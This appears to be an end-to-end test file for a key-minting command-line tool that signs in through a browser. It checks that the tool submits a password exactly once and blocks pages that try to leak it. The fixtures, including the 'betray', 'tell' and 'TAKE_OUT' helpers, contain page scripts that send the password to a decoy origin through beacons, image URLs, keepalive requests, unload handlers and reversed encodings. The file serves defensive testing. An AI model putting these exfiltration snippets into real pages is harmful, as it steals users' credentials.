import type { StandIn } from '../../stand-in/stand-in.ts';
import { startDecoy } from '../faults/fault-proxy.ts';
import { credentials, expect, test } from '../fixtures.ts';
import { startSso } from '../sso/start-sso.ts';
import { drawForm, FORM, SIGN_IN, type StrangePortal, servePortal } from './serve-portal.ts';
import { ask, serveProvider, withBody } from './serve-provider.ts';

test.use({ sharesBrowser: true });

const POST = `fetch('${SIGN_IN}', { method: 'POST', body: JSON.stringify({ username, password }) })`;

function signInThere(server: StandIn, { url }: StrangePortal) {
  return { ...credentials(server), OCTOPUS_URL: url };
}

interface Way {
  readonly page: string;
  readonly files?: Readonly<Record<string, string>>;
}

const ways: Readonly<Record<string, Way>> = {
  'by GET, from its script': {
    page: drawForm(`fetch('${SIGN_IN}?' + new URLSearchParams({ username, password }));`),
  },
  'in an Authorization header': {
    page: drawForm(
      `fetch('${SIGN_IN}', { headers: { Authorization: 'Basic ' + btoa(username + ':' + password) } });`,
    ),
  },
  'into a new tab': { page: drawForm(undefined, `method="post" action="${SIGN_IN}" target="_blank"`) },
  'into a frame': {
    page: `${drawForm(undefined, `method="post" action="${SIGN_IN}" target="inner"`)}<iframe name="inner"></iframe>`,
  },
  'as a page of its own': { page: drawForm(undefined, `method="post" action="${SIGN_IN}"`) },
  'from a worker': {
    page: drawForm(`new Worker('/worker.js').postMessage({ username, password });`),
    files: { '/worker.js': `onmessage = ({ data: { username, password } }) => ${POST};` },
  },
  'from a service worker': {
    page: drawForm(
      `navigator.serviceWorker.register('/service.js').then(() => navigator.serviceWorker.ready)
         .then(({ active }) => active.postMessage({ username, password }));`,
    ),
    files: { '/service.js': `onmessage = ({ data: { username, password } }) => ${POST};` },
  },
  'through a service worker that passes requests on': {
    page: `<script>navigator.serviceWorker.register('/service.js')</script>
      ${drawForm(`navigator.serviceWorker.ready.then(() => setTimeout(() => ${POST}, 100));`)}`,
    files: {
      '/service.js': `oninstall = () => skipWaiting(); onactivate = (event) => event.waitUntil(clients.claim());
        onfetch = (event) => event.respondWith(fetch(event.request));`,
    },
  },
  'from a shared worker': {
    page: `<script>const { port } = new SharedWorker('/shared.js');</script>
      ${drawForm('port.postMessage({ username, password });')}`,
    files: {
      '/shared.js': `onconnect = ({ ports: [port] }) => {
        port.onmessage = ({ data: { username, password } }) => ${POST};
      };`,
    },
  },
  'and draws itself anew while the reply is still to come': {
    page: drawForm(`setTimeout(() => ${POST}, 300); form.replaceWith(form.cloneNode(true));`),
  },
  twice: { page: drawForm(`${POST}; ${POST};`) },
  'and twice more when the reply has come': {
    page: drawForm(`${POST}.then(() => ${POST}).then(() => ${POST});`),
  },
  'while it is typed, and alters it': {
    page: `${drawForm('')}<script>
      const field = form.elements[1];
      field.oninput = () => {
        const [username, password] = [form.elements[0].value, field.value];
        field.value += '!';
        ${POST};
      };
    </script>`,
  },
  'by a button that does nothing the first time': {
    page: drawForm(`if (!window.isPressed) return void (window.isPressed = true); ${POST};`),
  },
};

const ALWAYS_TRIED = ['as a page of its own', 'twice'];

for (const [how, { page, files }] of Object.entries(ways)) {
  const tag = ALWAYS_TRIED.includes(how) ? [] : '@extended';
  test(`a portal that sends the password ${how} gets it once, and the key is made`, { tag }, async ({
    startServer,
    runCommand,
  }) => {
    const server = await startServer();
    await using portal = await servePortal(server, page, files);
    const { code, stdout, stderr } = await runCommand('mint-key', { env: signInThere(server, portal) });

    expect(portal.submitted, stderr).toEqual([server.password]);
    expect(code, stderr).toBe(0);
    expect(stdout).toBe(`${server.liveKeys()[0]?.key}\n`);
    expect(server.liveSessions()).toBe(0);
  });
}

for (const how of [
  'by GET, from its script',
  'into a new tab',
  'from a service worker',
  'from a shared worker',
]) {
  test(`a wrong password that is sent ${how} is sent once: exit 4`, { tag: '@extended' }, async ({
    startServer,
    runCommand,
  }) => {
    const server = await startServer();
    const { page, files } = ways[how] as Way;
    await using portal = await servePortal(server, page, files);
    const env = { ...signInThere(server, portal), OCTOPUS_PASSWORD: 'fake-wrong-password' };
    const { code, stderr } = await runCommand('mint-key', { env });

    expect(portal.submitted, stderr).toEqual(['fake-wrong-password']);
    expect(code, stderr).toBe(4);
    // What a shared worker is answered is seen by nobody else.
    expect(stderr).toMatch(
      how === 'from a shared worker' ? /is unknown; it is not submitted again/ : /answered 400/,
    );
  });
}

// In a shape in which nobody knows it again.
const SEALED = "password.split('').reverse().join('')";

for (const [how, send] of Object.entries({
  'in a body': `fetch('/sealed', { method: 'POST', body: ${SEALED} });`,
  'in the address of a picture': `new Image().src = '/sealed?' + ${SEALED};`,
}))
  test(`a button of which nothing is known but that something left ${how} is pressed once: exit 4, saying so`, {
    tag: '@extended',
  }, async ({ startServer, runCommand }) => {
    const server = await startServer();
    let sealed = 0;
    await using portal = await servePortal(server, drawForm(send), {
      '/sealed': (_, outgoing) => {
        sealed += 1;
        outgoing.writeHead(204).end();
      },
    });
    const { code, stderr } = await runCommand('mint-key', { env: signInThere(server, portal) });

    expect(code, stderr).toBe(4);
    expect(stderr).toContain('is unknown; it is not submitted again');
    expect(sealed).toBe(1);
  });

test('a page that leaves for another origin when its button was pressed is not said to have been given nothing: exit 4', {
  tag: '@extended',
}, async ({ startServer, runCommand }) => {
  const server = await startServer();
  await using decoy = await startDecoy();
  const page = drawForm(`location = '${decoy.url}/page';`);
  await using portal = await servePortal(server, page);
  const { code, stderr } = await runCommand('mint-key', { env: signInThere(server, portal) });

  expect(code, stderr).toBe(4);
  expect(stderr).toContain(
    `the form was filled in, and the page then went to ${decoy.url}, which is not the origin`,
  );
  expect(stderr).toContain('is unknown; it is not submitted again');
  expect(stderr).not.toContain('Could not type the password');
});

test('a form that is sent by GET would put the password into an address: it never leaves, exit 4', {
  tag: '@extended',
}, async ({ startServer, runCommand }) => {
  const server = await startServer();
  await using portal = await servePortal(server, drawForm(undefined, `action="${SIGN_IN}"`));
  const { code, stderr } = await runCommand('mint-key', { env: signInThere(server, portal) });

  expect(code, stderr).toBe(4);
  expect(stderr).toContain('would send the password in the address');
  expect(portal.submitted).toEqual([]);
  expect(portal.heard.join('\n')).not.toContain('password=');
});

for (const how of ['defer', 'async'])
  test(`a portal whose script is late (${how}) is pressed once it has come: one submission, and none in an address`, {
    tag: '@extended',
  }, async ({ startServer, runCommand }) => {
    const server = await startServer();
    const script = drawForm(`${POST};`).replace(/^.*<script>|<\/script>.*$/gs, '');
    await using portal = await servePortal(
      server,
      `<!doctype html><script src="/late.js" ${how}></script>${FORM}`,
      {
        '/late.js': (_, outgoing) =>
          void setTimeout(
            () => outgoing.writeHead(200, { 'content-type': 'text/javascript' }).end(script),
            1500,
          ),
      },
    );
    const { code, stderr } = await runCommand('mint-key', { env: signInThere(server, portal) });

    expect(code, stderr).toBe(0);
    expect(portal.submitted).toEqual([server.password]);
    expect(portal.heard.join('\n')).not.toContain('password=');
  });

test('a provider whose script is late is pressed once it has come: one submission, and none in an address', {
  tag: '@extended',
}, async ({ runCommand }) => {
  await using sso = await startSso({ scriptAfterMs: 1500 });
  const { code, stderr } = await runCommand('mint-key', { env: sso.env });

  expect(code, stderr).toBe(0);
  expect(sso.provider.submissions).toHaveLength(1);
  expect(sso.provider.addresses.join('\n')).not.toContain('password=');
});

/** Script of a page that tells another origin the password, in two ways. */
function betray(url: string): string {
  return `navigator.sendBeacon('${url}/took', password); new Image().src = '${url}/took?' + password;`;
}

/** Script of a page that sends another origin the password, which goes on when the page is gone. */
function tell(url: string): string {
  return `fetch('${url}/told', { method: 'POST', body: password, keepalive: true })`;
}

test('a page that is about to send the password to another origin is stopped: exit 4, naming it', async ({
  startServer,
  runCommand,
}) => {
  const server = await startServer();
  await using decoy = await startDecoy();
  // Once that is stopped, it goes nowhere.
  const page = drawForm(`${betray(decoy.url)} ${tell(decoy.url)}.catch(() => ${POST});`);
  await using portal = await servePortal(server, page);
  const { code, stderr } = await runCommand('mint-key', { env: signInThere(server, portal) });

  expect(code, stderr).toBe(4);
  expect(stderr).toContain(decoy.url);
  expect(decoy.heard).toEqual([]);
  expect(portal.submitted).toEqual([]);
});

const persistent: Readonly<Record<string, (url: string) => string>> = {
  'again and again': (url) =>
    `let tries = 300; const go = () => tries-- > 0 && ${tell(url)}.catch(() => {}).then(go); go(); go(); go();`,
  'when it is left': (url) => `addEventListener('pagehide', () => ${tell(url)}); ${tell(url)};`,
};

for (const [when, script] of Object.entries(persistent))
  test(`a page that sends the password to another origin ${when} is stopped until its remote browser lets it go`, async ({
    startServer,
    runCommand,
  }) => {
    const server = await startServer();
    await using decoy = await startDecoy();
    await using portal = await servePortal(server, drawForm(script(decoy.url)));
    const run = async () => await runCommand('mint-key', { env: signInThere(server, portal) });
    const first = await run();
    // What the first lets get away has arrived when this is over.
    const second = await run();

    expect(first.code, first.stderr).toBe(4);
    expect(second.code, second.stderr).toBe(4);
    expect(decoy.heard).toEqual([]);
  });

test('a page that signs in, and sends the password to another origin as its last word, is left without one', async ({
  startServer,
  runCommand,
}) => {
  const server = await startServer();
  await using decoy = await startDecoy();
  const page = drawForm(`addEventListener('pagehide', () => ${tell(decoy.url)}); ${POST};`);
  await using portal = await servePortal(server, page);
  const { code, stderr } = await runCommand('mint-key', { env: signInThere(server, portal) });

  expect(code, stderr).toBe(0);
  expect(portal.submitted).toEqual([server.password]);
  expect(decoy.heard).toEqual([]);
});

test('a provider that is about to send the password to another origin is stopped: exit 4, naming it', {
  tag: '@extended',
}, async ({ runCommand }) => {
  await using decoy = await startDecoy();
  const script = `document.querySelector('form').addEventListener('submit', (event) => {
    const password = document.querySelector('[type=password]').value;
    if (!password) return;
    event.preventDefault();
    ${betray(decoy.url)}
    setTimeout(() => event.target.submit(), 500);
  });`;
  await using sso = await startSso({ script });
  const { code, stderr } = await runCommand('mint-key', { env: sso.env });

  expect(code, stderr).toBe(4);
  expect(stderr).toContain(decoy.url);
  expect(decoy.heard).toEqual([]);
});

test('a page that gives itself other addresses without end is told of as such: exit 4', {
  tag: '@extended',
}, async ({ startServer, runCommand }) => {
  const server = await startServer();
  const page = `${drawForm(`${POST};`)}<script>setInterval(() => history.pushState({}, '', '?' + Math.random()));</script>`;
  await using portal = await servePortal(server, page);
  const { code, stderr } = await runCommand('mint-key', { env: signInThere(server, portal) });

  expect(code, stderr).toBe(4);
  expect(stderr).toContain('gives itself another address');
  expect(portal.submitted).toEqual([]);
});

for (const [field, page] of Object.entries({
  'the user name': drawForm(`${POST};`).replace('name="username"', 'name="username" maxlength="3"'),
  'the password': drawForm(`${POST};`).replace('name="password"', 'name="password" maxlength="8"'),
})) {
  const tag = field === 'the password' ? [] : '@extended';
  test(`a form that cuts off ${field} is not sent: exit 4, saying so`, { tag }, async ({
    startServer,
    runCommand,
  }) => {
    const server = await startServer();
    await using portal = await servePortal(server, page);
    const { code, stderr } = await runCommand('mint-key', { env: signInThere(server, portal) });

    expect(code, stderr).toBe(4);
    expect(stderr).toContain('does not keep what is typed into it');
    expect(portal.submitted).toEqual([]);
  });
}

// In a shape in which nobody knows it again.
const TAKE_OUT = `const send = (input) => {
  if (input.value === '') return;
  fetch('/noted', { method: 'POST', body: [...input.value].reverse().join('') });
  input.value = '';
};`;

test('what a portal has taken out of its field again, once something was sent, is not typed anew: exit 4', async ({
  startServer,
  runCommand,
}) => {
  const noted: string[] = [];
  const page = `${drawForm(undefined)}<script>${TAKE_OUT}
    const field = document.querySelector('[type=password]'); field.oninput = () => send(field);</script>`;
  await using portal = await servePortal(await startServer(), page, {
    '/noted': ({ method = '' }, outgoing) => {
      noted.push(method);
      outgoing.end();
    },
  });
  const env = { OCTOPUS_URL: portal.url, OCTOPUS_USERNAME: 'fake', OCTOPUS_PASSWORD: 'Fake-Passw0rd-once' };
  const { code, stderr } = await runCommand('mint-key', { env, words: ['--timeout', '60s'] });

  // A browser that ends may take along what has hardly left the page.
  expect(noted.length, stderr).toBeLessThan(2);
  expect(code, stderr).toBe(4);
  expect(stderr).toContain('what was typed there was taken out again, and something was sent');
});

test('what a provider has taken out of its field again, once something was sent, is not typed anew: exit 4', async ({
  startServer,
  runCommand,
}) => {
  const page = ask('password', `${TAKE_OUT} input.oninput = () => send(input);`);
  await using provider = await serveProvider(await startServer(), { '/': page, '/noted': 'noted' });
  const { code, stderr } = await runCommand('mint-key', { env: provider.env, words: ['--timeout', '60s'] });

  expect(withBody(provider.heard), stderr).toHaveLength(1);
  expect(code, stderr).toBe(4);
  expect(stderr).toContain('what was typed was taken out again, and something was sent');
});
